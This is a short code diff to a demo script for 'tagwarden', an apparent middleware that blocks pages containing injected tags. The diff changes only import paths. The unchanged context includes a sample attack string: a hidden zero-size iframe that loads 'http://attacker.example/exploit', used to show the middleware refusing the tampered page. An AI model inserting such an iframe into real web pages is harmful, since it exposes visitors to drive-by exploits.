@@ -6,14 +6,14 @@
  * then open http://127.0.0.1:3000/, /injected (the page with an attack <iframe> inserted: a 502),
  * /catalogue.json (not HTML: untouched) and /metrics. compression() is registered before tagwarden,
  * so tagwarden reads the page uncompressed and the browser still gets it gzip- or br-compressed.
- * (In your code: `import { middleware } from 'tagwarden'`.)
+ * (In your code: `import { middleware } from 'tagwarden/embed'`.)
  */
 import { readFileSync } from 'node:fs'
 import type { AddressInfo } from 'node:net'
 import compression from 'compression'
 import express from 'express'
 import { Registry } from 'prom-client'
-import { middleware } from '../src/index.js'
+import { middleware } from '../src/entries/embed.js'
 
 const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
 const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'
